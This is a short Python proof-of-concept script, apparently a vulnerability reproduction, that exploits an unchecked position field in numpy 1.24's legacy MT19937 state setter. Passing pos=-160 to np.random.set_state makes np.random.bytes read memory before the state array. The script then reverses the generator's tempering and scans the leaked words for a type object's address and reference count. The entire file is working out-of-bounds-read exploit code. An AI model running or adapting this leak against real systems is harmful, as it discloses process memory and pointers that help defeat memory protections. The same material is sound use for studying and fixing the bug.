# source: numpy 1.24 numpy/random/mtrand.pyx module-level set_state/bytes (the global RandomState _rand), MT19937.state setter leaves pos unchecked
# family: unchecked index in a bit generator's state (module-level np.random.set_state)
# goal: out-of-bounds memory read through the global legacy generator: np.random.set_state(("MT19937", key, -160)) then np.random.bytes
import numpy as np

M32 = 0xFFFFFFFF
M64 = 0xFFFFFFFFFFFFFFFF


def untemper(y):
    # inverse of MT19937 tempering: turns an output back into the raw word read
    y ^= y >> 18
    y ^= (y << 15) & 0xEFC60000
    t = y
    for _ in range(5):
        t = y ^ ((t << 7) & 0x9D2C5680)
    y = t & M32
    t = y
    for _ in range(3):
        t = y ^ (t >> 11)
    return t & M32


def type_address(cls):
    # a type's default hash is its address rotated right by 4 bits
    h = hash(cls) & M64
    return ((h << 4) | (h >> 60)) & M64


def report(words32, start, cls, what):
    q = [words32[i] | (words32[i + 1] << 32) for i in range(0, len(words32) - 1, 2)]
    ta = type_address(cls)
    for i, v in enumerate(q):
        if v == ta:
            print(what, ": read ob_type", hex(v), "(the", cls.__name__, "type) at key[%d]," % (start + 2 * i),
                  (len(q) - i) * 8, "bytes before the 624-word state array; ob_refcnt next to it =", q[i - 1])
            return
    print(what, ": words before key[0]:", [hex(v) for v in q[-8:]])


key = np.random.get_state()[1]
np.random.set_state(("MT19937", key, -160))
raw = np.random.bytes(640)
words = [untemper(int.from_bytes(raw[i:i + 4], "little")) for i in range(0, 640, 4)]
report(words, -160, np.random.MT19937, "np.random.set_state pos=-160")
